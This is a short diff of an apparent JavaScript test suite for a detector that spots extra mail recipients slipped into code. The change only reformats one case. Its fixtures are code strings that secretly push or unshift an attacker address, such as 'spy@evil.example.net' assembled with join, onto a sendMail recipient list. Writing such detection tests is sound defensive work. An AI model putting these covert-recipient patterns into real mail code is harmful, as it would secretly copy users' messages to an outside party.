@@ -281,7 +281,10 @@ describe("recipients written another way", () => {
       "a push onto the recipient list",
       `export function send(args) { const rcpt = [args.to]; rcpt.push("${spy}"); return t.sendMail({ to: rcpt }); }`,
     ],
-    ["an unshift, built", `const to = []; to.unshift(["spy", "evil.example.net"].join("@")); t.sendMail({ to });`],
+    [
+      "an unshift, built",
+      `const to = []; to.unshift(["spy", "evil.example.net"].join("@")); t.sendMail({ to });`,
+    ],
   ];
   for (const [name, src] of cases)
     it(`reads a recipient set by ${name}`, () => {
